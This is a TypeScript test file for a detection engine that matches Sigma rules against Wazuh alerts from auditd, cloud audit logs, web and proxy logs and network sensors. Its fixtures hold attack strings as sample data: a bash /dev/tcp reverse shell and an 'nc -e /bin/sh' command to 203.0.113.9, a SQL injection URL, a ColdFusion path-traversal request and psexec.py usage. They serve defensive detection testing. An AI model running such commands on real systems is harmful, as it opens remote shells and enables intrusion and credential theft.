// Each Wazuh source mapping (src/detect/sources/) on alerts in the shape Wazuh writes them. Where a real sample
// exists it is quoted with its source: the logs of Wazuh's own ruleset tests (wazuh/wazuh
// ruleset/testing/tests/*.ini @v4.14.7) and decoder files are real; Wazuh puts a JSON-decoded log under `data`
// unchanged, so those alerts are the real log in a SYNTHETIC alert envelope (timestamp, rule, decoder, location).
// Alerts marked SYNTHETIC in full were built from the decoder's documented output (cited at each).
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { auditRecords } from '../../src/detect/sources/auditd.js';
import { loadRules, parseRuleFile, type DetectionRule, type RuleSet } from '../../src/detect/rules.js';
import { SHARED } from '../helpers/fixtures.js';
import { Prefilter } from '../../src/detect/prefilter.js';
import { RuleIndex } from '../../src/detect/dispatch.js';

/** One rule from YAML text; asserts it loads. */
function rule(yaml: string): DetectionRule {
  const set: RuleSet = { rules: [], problems: [], files: [] };
  parseRuleFile(yaml, 'inline.yml', set);
  assert.deepEqual(set.problems, []);
  return set.rules[0] as DetectionRule;
}
function problem(yaml: string): string {
  const set: RuleSet = { rules: [], problems: [], files: [] };
  parseRuleFile(yaml, 'inline.yml', set);
  assert.equal(set.problems.length, 1, JSON.stringify(set.rules.map((r) => r.ref.title)));
  return `${set.problems[0]!.kind}: ${set.problems[0]!.message}`;
}
const envelope = (decoder: Record<string, string>, extra: Record<string, unknown>) => ({
  timestamp: '2026-11-21T10:00:00.000+0000',
  rule: { id: '1', level: 3, description: 'authentication failed', groups: [] },
  agent: { id: '001', name: 'web-01' },
  decoder,
  ...extra,
});
const json = (data: unknown, location = 'wazuh-module') => envelope({ name: 'json' }, { data, location });

const SIGMAHQ = join(SHARED, 'data/sigma/sigmahq/rules');
const skipCorpus = !existsSync(SIGMAHQ) && `no SigmaHQ corpus at ${SIGMAHQ}`;
function sigmahq(rel: string): DetectionRule {
  const set = loadRules([join(SIGMAHQ, rel)]);
  assert.deepEqual(set.problems, []);
  return set.rules[0] as DetectionRule;
}

// Real: ruleset/testing/tests/audit_scp.ini "[Executed python script]" (0x1d as auditd ENRICHED writes it).
const AUDIT_EXECVE =
  'type=SYSCALL msg=audit(1624643172.076:11843): arch=c000003e syscall=59 success=yes exit=0 a0=25c81f0 a1=255f000 a2=255df40 a3=7ffc66d5c8e0 items=3 ppid=4353 pid=13331 auid=1198400500 uid=1198400500 gid=1198400513 euid=1198400500 suid=1198400500 fsuid=1198400500 egid=1198400513 sgid=1198400513 fsgid=1198400513 tty=pts0 ses=48 comm="runtime" exe="/usr/bin/python3.6" subj=unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023 key="wazuh_execution"\u001DARCH=x86_64 SYSCALL=execve AUID="administrator@ExchangeTest.com" UID="administrator@ExchangeTest.com" type=EXECVE msg=audit(1624643172.076:11843): argc=6 a0="/usr/bin/python3" a1="./runtime" a2="psexec.py" a3="exchangetest.com/administrator@192.168.0.57"';
// Real: ruleset/decoders/0040-auditd_decoders.xml, the sample in its header comment.
const AUDIT_TOUCH =
  'type=SYSCALL msg=audit(1479982525.380:50): arch=c000003e syscall=2 success=yes exit=3 a0=7ffedc40d83b a1=941 a2=1b6 a3=7ffedc40cce0 items=2 ppid=432 pid=3333 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=2 comm="touch" exe="/bin/touch" key="audit-wazuh-w" type=CWD msg=audit(1479982525.380:50):  cwd="/var/log/audit" type=PATH msg=audit(1479982525.380:50): item=0 name="/var/log/audit/tmp_directory1/" inode=399849 dev=ca:02 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT type=PATH msg=audit(1479982525.380:50): item=1 name="/var/log/audit/tmp_directory1/malware.py" inode=399852 dev=ca:02 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE type=PROCTITLE msg=audit(1479982525.380:50): proctitle=746F756368002F7661722F6C6F672F61756469742F746D705F6469726563746F7279312F6D616C776172652E7079';
/** The alert Wazuh writes for an audit line: decoder auditd, the decoded audit.* fields (0040-auditd_decoders.xml). */
const auditAlert = (line: string, audit: Record<string, unknown>) =>
  envelope({ parent: 'auditd', name: 'auditd' }, { full_log: line, location: '/var/log/audit/audit.log', data: { audit } });

describe('Linux auditd (decoder auditd, records read from full_log)', () => {
  it('splits the grouped line into records, decodes hex-encoded values, reads ENRICHED fields', () => {
    const r = auditRecords(AUDIT_TOUCH);
    assert.deepEqual(r.map((x) => x.type), ['SYSCALL', 'CWD', 'PATH', 'PATH', 'PROCTITLE']);
    assert.deepEqual(r[4]!.fields.get('proctitle'), ['touch /var/log/audit/tmp_directory1/malware.py']);
    assert.deepEqual(r[0]!.fields.get('a0'), ['7ffedc40d83b'], 'SYSCALL registers stay as written');
    const e = auditRecords(AUDIT_EXECVE);
    assert.deepEqual(e[0]!.fields.get('SYSCALL'), ['execve']);
    assert.deepEqual(e[1]!.fields.get('a2'), ['psexec.py']);
  });

  it('type / name / nametype match any record of the event; another event does not match', () => {
    const r = rule(`title: t\nlogsource: {product: linux, service: auditd}\ndetection:\n  s: {type: PATH, name|endswith: '.py', nametype: CREATE}\n  condition: s\n`);
    const touch = auditAlert(AUDIT_TOUCH, { type: 'SYSCALL', exe: '/bin/touch', key: 'audit-wazuh-w' });
    assert.equal(r.match.wazuh(touch), true);
    assert.equal(r.match.wazuh(auditAlert(AUDIT_EXECVE, { type: 'SYSCALL' })), false);
    assert.equal(r.match.wazuh({ ...touch, decoder: { name: 'json' } }), false, 'gate: decoder auditd');
  });

  it('a SigmaHQ auditd rule on a real event: EXECVE a0/a1 (lnx_auditd_susp_c2_commands-style fields)', () => {
    const r = rule(`title: t\nlogsource: {product: linux, service: auditd}\ndetection:\n  s: {type: EXECVE, a0|endswith: python3, a2: psexec.py, SYSCALL: execve}\n  condition: s\n`);
    assert.equal(r.match.wazuh(auditAlert(AUDIT_EXECVE, { type: 'SYSCALL', exe: '/usr/bin/python3.6' })), true);
  });

  it('process_creation is the execve event: Image = exe, CommandLine = the arguments; parent fields are refused', () => {
    const r = rule(`title: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s: {Image|endswith: /python3.6, CommandLine|contains: 'psexec.py exchangetest.com/'}\n  condition: s\n`);
    const alert = auditAlert(AUDIT_EXECVE, { type: 'SYSCALL', exe: '/usr/bin/python3.6', execve: { a0: '/usr/bin/python3', a1: './runtime', a2: 'psexec.py' } });
    assert.equal(r.match.wazuh(alert), true);
    assert.equal(r.match.wazuh(auditAlert(AUDIT_TOUCH, { type: 'SYSCALL', exe: '/bin/touch' })), false, 'no EXECVE record: not a process creation');
    assert.match(problem(`title: p\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s: {ParentImage|endswith: /java}\n  condition: s\n`), /^unsupported: field "ParentImage" of linux process_creation/);
  });

  it('the raw-line prefilter never skips an execve whose matching argument auditd hex-encoded', () => {
    const set: RuleSet = { rules: [], problems: [], files: [] };
    parseRuleFile(`title: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s: {CommandLine|contains: '/dev/tcp/203.0.113.9'}\n  condition: s\n`, 'inline.yml', set);
    const hex = Buffer.from('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1').toString('hex').toUpperCase();
    // Without the ENRICHED part: its 0x1d separator is a JSON escape, which makes the prefilter parse the line anyway.
    const line = AUDIT_EXECVE.replace(/\u001D.* type=EXECVE/, ' type=EXECVE').replace(/argc=6 .*$/, `argc=3 a0="bash" a1="-c" a2=${hex}`);
    assert.ok(!/[\u0000-\u001f]/.test(line));
    const alert = auditAlert(line, { type: 'SYSCALL', exe: '/usr/bin/bash' });
    const r = set.rules[0] as DetectionRule;
    assert.equal(r.match.wazuh(alert), true);
    assert.equal(new Prefilter(set.rules).mayMatch(JSON.stringify(alert)), true, 'the literal is not in the raw line, only its hex');
  });

  it('process_creation without full_log falls back to Wazuh\'s decoded audit.execve.a0…a7 (SYNTHETIC alert)', () => {
    const r = rule(`title: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s: {CommandLine: 'nc -e /bin/sh 203.0.113.9 4444'}\n  condition: s\n`);
    const a = envelope({ parent: 'auditd', name: 'auditd' }, { data: { audit: { exe: '/usr/bin/nc', execve: { a0: 'nc', a1: '-e', a2: '/bin/sh', a3: '203.0.113.9', a4: '4444' } } } });
    assert.equal(r.match.wazuh(a), true);
  });
});

describe('keywords search every string of the event, not Wazuh\'s annotations', () => {
  it('a keyword in a decoded JSON field matches; one only in rule.description does not', () => {
    const r = rule(`title: t\nlogsource: {product: m365, service: audit}\ndetection:\n  k: ['New-InboxRule']\n  condition: k\n`);
    const a = json({ integration: 'office365', office365: { Operation: 'New-InboxRule', Workload: 'Exchange' } });
    assert.equal(r.match.wazuh(a), true);
    const f = rule(`title: t\nlogsource: {product: m365, service: audit}\ndetection:\n  k: ['authentication failed']\n  condition: k\n`);
    assert.equal(f.match.wazuh(a), false, 'rule.description is Wazuh\'s, not the event');
  });
});

describe('Cloud modules (JSON decoder, data.<module>.*)', () => {
  // Real log: ruleset/testing/tests/office365.ini "[Office 365 ExchangeAdmin]" (Operation added: SYNTHETIC).
  const o365 = (over: Record<string, unknown>) =>
    json({ integration: 'office365', office365: { ObjectId: 'sanitized', UserKey: 'sanitized', ClientIP: 'sanitized', Workload: 'ExchangeAdmin', RecordType: '1', UserId: 'wazuh@wazuh.com', CreationTime: '2020-03-19T16:48:02', Id: 'sanitized', ...over } });
  it('Microsoft 365 audit: Operation / Workload under data.office365; eventSource-style fields are refused', () => {
    const r = rule(`title: t\nlogsource: {product: m365, service: audit}\ndetection:\n  s: {Workload: ExchangeAdmin, Operation: New-InboxRule}\n  condition: s\n`);
    assert.equal(r.match.wazuh(o365({ Operation: 'New-InboxRule' })), true);
    assert.equal(r.match.wazuh(o365({ Operation: 'Set-Mailbox' })), false);
    assert.equal(r.match.wazuh({ ...o365({ Operation: 'New-InboxRule' }), data: { integration: 'github', office365: { Workload: 'ExchangeAdmin', Operation: 'New-InboxRule' } } }), false, 'gate: integration office365');
    assert.match(problem(`title: t\nlogsource: {product: m365, service: threat_management}\ndetection:\n  s: {eventSource: SecurityComplianceCenter}\n  condition: s\n`), /field "eventSource" .* not a field of the Office 365 Management Activity records/);
  });

  it('GCP audit: a SigmaHQ rule (gcp.audit.method_name) on a real Pub/Sub log', { skip: skipCorpus }, () => {
    // Real: ruleset/testing/tests/gcp.ini, the compute.autoscalers.insert entry (trimmed to the keys used).
    const log = {
      gcp: {
        severity: 'NOTICE',
        logName: 'projects/wazuh-dev-258815/logs/cloudaudit.googleapis.com%2Factivity',
        resource: { type: 'gce_autoscaler', labels: { project_id: 'wazuh-dev-258815', location: 'us-east1-b' } },
        protoPayload: {
          authenticationInfo: { principalEmail: 'carlos.ridao@wazuh.com' },
          '@type': 'type.googleapis.com/google.cloud.audit.AuditLog',
          methodName: 'beta.compute.autoscalers.insert',
          serviceName: 'compute.googleapis.com',
        },
      },
    };
    const r = rule(`title: t\nlogsource: {product: gcp, service: gcp.audit}\ndetection:\n  s: {gcp.audit.method_name: beta.compute.autoscalers.insert}\n  condition: s\n`);
    assert.equal(r.match.wazuh(json(log)), true);
    const del = sigmahq('cloud/gcp/audit/gcp_firewall_rule_modified_or_deleted.yml');
    assert.equal(del.match.wazuh(json(log)), false);
    const fw = { gcp: { ...log.gcp, protoPayload: { ...log.gcp.protoPayload, methodName: 'v1.compute.firewalls.delete' } } };
    assert.equal(del.match.wazuh(json(fw)), true);
  });

  it('AWS CloudTrail: SigmaHQ aws_cloudtrail_disable_logging on data.aws.* (SYNTHETIC alert from aws_bucket.py get_alert_msg)', { skip: skipCorpus }, () => {
    const r = sigmahq('cloud/aws/cloudtrail/aws_cloudtrail_disable_logging.yml');
    const ct = (eventName: string, source = 'cloudtrail') =>
      json({ integration: 'aws', aws: { log_info: { s3bucket: 'trail-bucket', log_file: 'AWSLogs/1/CloudTrail/x.json.gz' }, eventSource: 'cloudtrail.amazonaws.com', eventName, userIdentity: { type: 'IAMUser', arn: 'arn:aws:iam::123456789012:user/mallory' }, source } });
    assert.equal(r.match.wazuh(ct('StopLogging')), true);
    assert.equal(r.match.wazuh(ct('DescribeTrails')), false);
    assert.equal(r.match.wazuh(ct('StopLogging', 'guardduty')), false, 'gate: aws.source cloudtrail');
  });

  it('Azure: a SigmaHQ activity-log rule on a storage record and on a Log Analytics row (SYNTHETIC, analytics.py / storage.py shapes)', { skip: skipCorpus }, () => {
    const r = sigmahq('cloud/azure/activity_logs/azure_keyvault_modified_or_deleted.yml');
    const storage = json({ azure_tag: 'azure-storage', category: 'Administrative', operationName: 'MICROSOFT.KEYVAULT/VAULTS/DELETE', resultType: 'Success' });
    assert.equal(r.match.wazuh(storage), true);
    assert.equal(r.match.wazuh(json({ azure_tag: 'azure-storage', category: 'Administrative', operationName: 'MICROSOFT.COMPUTE/VIRTUALMACHINES/START/ACTION' })), false);
    assert.equal(r.match.wazuh(json({ azure_tag: 'azure-ad-graph', operationName: 'MICROSOFT.KEYVAULT/VAULTS/DELETE' })), false, 'a Graph object is not an activity log');
  });

  it('GitHub audit: a SigmaHQ rule on a real github module log', { skip: skipCorpus }, () => {
    const r = sigmahq('application/github/audit/github_delete_action_invoked.yml');
    // Real: ruleset/testing/tests/github.ini (action changed from account.billing_plan_change: SYNTHETIC).
    assert.equal(r.match.wazuh(json({ integration: 'github', github: { actor: 'user', org: 'organization', created_at: 1619032221869, action: 'repo.destroy' } })), true);
    assert.equal(r.match.wazuh(json({ integration: 'github', github: { actor: 'user', org: 'organization', created_at: 1619032221869, action: 'account.billing_plan_change' } })), false);
  });

  it('Docker: engine events under data.docker (real log: docker_integration.ini)', () => {
    const r = rule(`title: t\nlogsource: {product: docker}\ndetection:\n  s: {Type: container, Action: create, Actor.Attributes.image|startswith: 'nginx'}\n  condition: s\n`);
    const log = { integration: 'docker', docker: { Type: 'container', Action: 'create', Actor: { ID: 'acedfgh123456789abcdef', Attributes: { image: 'nginx:latest', name: 'wazuh-test-container' } }, scope: 'local', time: 1766395777 } };
    assert.equal(r.match.wazuh(json(log)), true);
  });

  it('Google Workspace and Okta stay unsupported, named', () => {
    assert.match(problem(`title: t\nlogsource: {product: gcp, service: google_workspace.admin}\ndetection:\n  s: {eventName: x}\n  condition: s\n`), /Google Workspace reports have no Wazuh module/);
    assert.match(problem(`title: t\nlogsource: {product: okta, service: okta}\ndetection:\n  s: {eventType: x}\n  condition: s\n`), /Wazuh has no Okta module/);
  });
});

describe('Web access logs and proxies', () => {
  // Real line: ruleset/decoders/0375-web-accesslog_decoders.xml header; decoded fields per its web-accesslog-ip
  // decoder (srcip, protocol = method, url, id = status). Alert envelope SYNTHETIC.
  const LINE = '10.10.10.11 10.10.10.12 - - [10/Apr/2017:13:18:05 -0700] "GET /injection/%0d%0aSet-Cookie HTTP/1.1" 404 271 "-" "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:22.0) Gecko/20100101 Firefox/22.0"';
  const access = (line: string, data: Record<string, string>) => envelope({ name: 'web-accesslog' }, { full_log: line, location: '/var/log/nginx/access.log', data });
  it('cs-method, cs-uri-stem/query, sc-status, cs-user-agent', () => {
    const r = rule(`title: t\nlogsource: {category: webserver}\ndetection:\n  s: {cs-method: GET, cs-uri-stem|contains: '%0d%0a', sc-status: 404, cs-user-agent|contains: Firefox}\n  condition: s\n`);
    assert.equal(r.match.wazuh(access(LINE, { srcip: '10.10.10.12', protocol: 'GET', url: '/injection/%0d%0aSet-Cookie', id: '404' })), true);
    const q = rule(`title: t\nlogsource: {category: webserver}\ndetection:\n  s: {cs-uri-query|contains: 'UNION%20SELECT'}\n  condition: s\n`);
    const sqli = '/modules.php?name=Search&type=stories&query=qualys&category=-1%20&categ=%20and%201=2%20UNION%20SELECT%200,0,aid,pwd,0,0,0,0,0,0%20from%20nuke_authors/*';
    assert.equal(q.match.wazuh(access(`10.11.12.13 - - - [27/Mar/2017:13:40:40 -0700] "GET ${sqli} HTTP/1.0" 404 982 "-" "-"`, { srcip: '10.11.12.13', protocol: 'GET', url: sqli, id: '404' })), true);
    assert.equal(q.match.wazuh(access(LINE, { srcip: '10.10.10.12', protocol: 'GET', url: '/UNION%20SELECT', id: '404' })), false, 'in the path, not the query');
  });
  it('webserver on IIS (web-accesslog-iis-default): method, stem, query, status, user agent', () => {
    // Real line: ruleset/testing/tests/web_rules.ini "[A web attacked returned code 404]" (@v4.14.7), decoder
    // web-accesslog-iis-default; fields as its regex (0380-windows_decoders.xml) takes them. Envelope SYNTHETIC.
    const line = '2015-03-11 22:01:59 1.2.3.4 GET /CFIDE/adminapi/customtags/l10n.cfm attributes.id=test&attributes.file=../../administrator/mail/download.cfm&filename=../lib/password.properties&attributes.locale=it&attributes.var=it&attributes.jscript=false&attributes.type=text/html&attributes.charset=UTF-8&thisTag.executionmode=end&thisTag.generatedContent=test 443 - 31.3.3.7 - - 404 0 2 0';
    const [, rest] = /^\S+ \S+ (.*)$/.exec(line)!;
    const m = /^\S+ (\w+) (\S+ \S+) (\S+) \S+ (\S+) (\S+) .*(\d\d\d) /.exec(rest!)!;
    const iis = envelope({ parent: 'windows-date-format', name: 'web-accesslog-iis-default' }, { full_log: line, location: 'C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex150311.log', data: { action: m[1], url: m[2], srcport: m[3], srcip: m[4], user_agent: m[5], id: m[6] } });
    const r = rule(`title: t\nlogsource: {category: webserver, product: windows}\ndetection:\n  s: {cs-method: GET, cs-uri-stem: /CFIDE/adminapi/customtags/l10n.cfm, cs-uri-query|contains: 'filename=../lib/password', sc-status: 404, c-ip: 31.3.3.7}\n  condition: s\n`);
    assert.equal(r.match.wazuh(iis), true);
    const whole = rule(`title: t\nlogsource: {category: webserver}\ndetection:\n  s: {cs-uri|startswith: '/CFIDE/adminapi/customtags/l10n.cfm?attributes.id=test'}\n  condition: s\n`);
    assert.equal(whole.match.wazuh(iis), true, 'cs-uri is the stem and the query joined by ?');
    // Real line: the decoder's header example (IIS 8.5) with a user agent and no query.
    const ua = envelope({ parent: 'windows-date-format', name: 'web-accesslog-iis-default' }, { full_log: '2015-03-11 20:28:21 1.2.3.4 GET /certsrv/Default.asp - 80 - 31.3.3.7 Mozilla/5.0+(compatible;+MSIE+9.0;+Windows+NT+6.1;+WOW64;+Trident/7.0) - 401 2 5 0', data: { action: 'GET', url: '/certsrv/Default.asp -', srcport: '80', srcip: '31.3.3.7', user_agent: 'Mozilla/5.0+(compatible;+MSIE+9.0;+Windows+NT+6.1;+WOW64;+Trident/7.0)', id: '401' } });
    assert.equal(rule(`title: t\nlogsource: {category: webserver}\ndetection:\n  s: {cs-user-agent|contains: 'MSIE+9.0', cs-uri: /certsrv/Default.asp}\n  condition: s\n`).match.wazuh(ua), true);
    assert.equal(rule(`title: t\nlogsource: {category: webserver}\ndetection:\n  s: {cs-uri-query|contains: '-'}\n  condition: s\n`).match.wazuh(ua), false, 'IIS writes - for no query');
    assert.equal(rule(`title: t\nlogsource: {category: webserver}\ndetection:\n  s: {cs-referer|contains: 'x'}\n  condition: s\n`).match.wazuh(ua), false, 'no referer in the default format');
    const p = new Prefilter([r]);
    assert.equal(p.mayMatch(JSON.stringify(iis)), true);
  });
  it('proxy: Squid fields; a user agent is absent on Squid alerts, a field neither source has is refused', () => {
    // Real line: ruleset/decoders/0305-squid_decoders.xml header.
    const squid = envelope({ name: 'squid-accesslog' }, { full_log: '1286536318.542    755 192.168.0.68 TCP_MISS/200 507 POST http://wazuh.com- DIRECT/X.X.X.X application/xml', data: { srcip: '192.168.0.68', action: 'TCP_MISS', id: '200', url: 'http://wazuh.com-' } });
    const r = rule(`title: t\nlogsource: {category: proxy}\ndetection:\n  s: {cs-method: POST, cs-host: wazuh.com-}\n  condition: s\n`);
    assert.equal(r.match.wazuh(squid), true);
    // A user agent is in Suricata's records, not Squid's: on a Squid alert it is absent, even for the empty one.
    assert.equal(rule(`title: t\nlogsource: {category: proxy}\ndetection:\n  s: {c-useragent: ''}\n  condition: s\n`).match.wazuh(squid), false);
    assert.match(problem(`title: t\nlogsource: {category: proxy}\ndetection:\n  s: {cs-bytes: 1}\n  condition: s\n`), /field "cs-bytes" of proxy: neither Squid's native access.log .* nor Suricata's EVE http record/);
  });
  // Real record: ruleset/testing/tests/malicious-ioc.ini "[Suricata: Alert from malicious domain (http.hostname)]"
  // (@v4.14.7), decoder json; Wazuh puts it under `data` unchanged. Alert envelope SYNTHETIC.
  const EVE_HTTP = {
    timestamp: '2025-05-13T10:23:45.123456+0000', flow_id: 987654321098765, in_iface: 'eth0', event_type: 'http',
    src_ip: '192.168.1.100', src_port: 54321, dest_ip: '93.184.216.34', dest_port: 80, proto: 'TCP',
    http: { hostname: 'qouv.fr', url: '/index.html', http_user_agent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)', http_method: 'GET', protocol: 'HTTP/1.1', status: 200, length: 1024 },
    tx_id: 0,
  };
  it('proxy: Suricata EVE http records (user agent, host, URL, method, status, destination)', () => {
    const r = rule(`title: t\nlogsource: {category: proxy}\ndetection:\n  s: {c-useragent|contains: 'Windows NT 10.0', cs-host: qouv.fr, c-uri-extension: html, c-uri-stem: /index.html, cs-method: GET, sc-status: 200, dst_ip|cidr: 93.184.0.0/16, c-ip: 192.168.1.100}\n  condition: s\n`);
    assert.equal(r.match.wazuh(json(EVE_HTTP, '/var/log/suricata/eve.json')), true);
    assert.equal(r.match.wazuh(json({ ...EVE_HTTP, event_type: 'alert' }, '/var/log/suricata/eve.json')), false, 'only the http transaction records');
    assert.equal(r.match.wazuh(json({ ...EVE_HTTP, http: { ...EVE_HTTP.http, http_user_agent: 'curl/8.0' } })), false);
    // dump-all-headers: the Cookie request header (SYNTHETIC, Suricata's documented request_headers list).
    const c = rule(`title: t\nlogsource: {category: proxy}\ndetection:\n  s: {cs-cookie|endswith: '=csm-hit=s-1'}\n  condition: s\n`);
    assert.equal(c.match.wazuh(json({ ...EVE_HTTP, http: { ...EVE_HTTP.http, request_headers: [{ name: 'Host', value: 'qouv.fr' }, { name: 'cookie', value: 'a=b; x=csm-hit=s-1' }] } })), true);
    assert.equal(c.match.wazuh(json(EVE_HTTP)), false);
  });
  it('a SigmaHQ proxy user-agent rule on a Suricata EVE http record (proxy_ua_hacktool)', { skip: skipCorpus }, () => {
    const r = sigmahq('web/proxy_generic/proxy_ua_hacktool.yml');
    assert.equal(r.match.wazuh(json({ ...EVE_HTTP, http: { ...EVE_HTTP.http, http_user_agent: 'sqlmap/1.7.2#stable (https://sqlmap.org)' } })), true);
    assert.equal(r.match.wazuh(json(EVE_HTTP)), false);
  });
  it('the prefilter and the rule index let Suricata http records through to proxy rules', () => {
    const r = rule(`title: t\nlogsource: {category: proxy}\ndetection:\n  s: {c-useragent|contains: 'sqlmap'}\n  condition: s\n`);
    const p = new Prefilter([r]);
    const alert = json({ ...EVE_HTTP, http: { ...EVE_HTTP.http, http_user_agent: 'sqlmap/1.7' } });
    assert.equal(p.mayMatch(JSON.stringify(alert)), true);
    const index = new RuleIndex([r]);
    const picked = index.select('wazuh', alert)!;
    assert.ok(picked.some((list) => list.includes(r)) || index.always.includes(r));
    assert.ok(!index.select('wazuh', envelope({ name: 'sshd' }, { full_log: 'x' }))!.some((list) => list.includes(r)), 'not evaluated for other decoders');
  });
});

describe('Network: Zeek JSON, DNS', () => {
  // Real: ruleset/testing/tests/owlh.ini [DNS] (Zeek's id.* keys nested, as alerts.json writes dotted names).
  const dnsLog = { ts: 1573747600.751717, uid: 'C5KJdi3dcFfrbKjPb2', id: { orig_h: '10.0.2.15', orig_p: 48469, resp_h: '10.0.2.3', resp_p: 53 }, proto: 'udp', query: 'archive.ubuntu.com', rcode_name: 'NOERROR', answers: ['91.189.88.173', '91.189.88.174'], rejected: false, bro_engine: 'DNS' };
  it('zeek dns: query, id.resp_p; category dns on Zeek and on Suricata EVE (SYNTHETIC EVE alert)', () => {
    const z = rule(`title: t\nlogsource: {product: zeek, service: dns}\ndetection:\n  s: {query|endswith: .ubuntu.com, id.resp_p: 53}\n  condition: s\n`);
    assert.equal(z.match.wazuh(json(dnsLog, '/opt/zeek/logs/current/dns.log')), true);
    const c = rule(`title: t\nlogsource: {category: dns}\ndetection:\n  s: {query: archive.ubuntu.com}\n  condition: s\n`);
    assert.equal(c.match.wazuh(json(dnsLog)), true);
    assert.equal(c.match.wazuh(json({ event_type: 'dns', src_ip: '10.0.2.15', dns: { type: 'query', rrname: 'archive.ubuntu.com', rrtype: 'A' } })), true);
    assert.equal(c.match.wazuh(json({ ...dnsLog, bro_engine: 'CONN' })), false);
  });
});

describe('Windows channels beyond Security/System/Sysmon', () => {
  it('codeintegrity-operational and sysmon_error gate on their channel; debug logs are refused', () => {
    const r = rule(`title: t\nlogsource: {product: windows, service: codeintegrity-operational}\ndetection:\n  s: {EventID: 3033}\n  condition: s\n`);
    const ev = { data: { win: { system: { eventID: '3033', channel: 'Microsoft-Windows-CodeIntegrity/Operational' }, eventdata: {} } } };
    assert.equal(r.match.wazuh(ev), true);
    assert.equal(r.match.wazuh({ data: { win: { system: { eventID: '3033', channel: 'Security' }, eventdata: {} } } }), false);
    assert.match(problem(`title: t\nlogsource: {product: windows, service: ldap}\ndetection:\n  s: {EventID: 30}\n  condition: s\n`), /analytic\/debug log/);
  });
});

describe('time modifiers', () => {
  const t = (ts: string) => envelope({ name: 'json' }, { timestamp: ts, data: { integration: 'aws', aws: { source: 'cloudtrail', eventName: 'ConsoleLogin', eventTime: ts } } });
  it('hour/day/week/month/year/minute of a date field, in UTC, with gt/gte/lt/lte', () => {
    const off = rule(`title: t\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  s: {eventName: ConsoleLogin}\n  night: {eventTime|hour|lt: 6}\n  late: {eventTime|hour|gte: 22}\n  condition: s and (night or late)\n`);
    assert.equal(off.match.wazuh(t('2026-11-21T03:10:00Z')), true);
    assert.equal(off.match.wazuh(t('2026-11-21T23:59:00Z')), true);
    assert.equal(off.match.wazuh(t('2026-11-21T12:00:00Z')), false);
    assert.equal(off.match.wazuh(t('2026-11-21T12:00:00.000+0000')), false);
    const parts = rule(`title: t\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  s: {eventTime|year: 2027, eventTime|month: 1, eventTime|day: 3, eventTime|week: 53, eventTime|minute: 7}\n  condition: s\n`);
    assert.equal(parts.match.wazuh(t('2027-01-03T10:07:00Z')), true, '3 January 2027 is in ISO week 53 of 2026');
    assert.equal(parts.match.wazuh(t('2027-01-04T10:07:00Z')), false);
    assert.equal(off.match.wazuh(t('not a date')), false);
  });
});

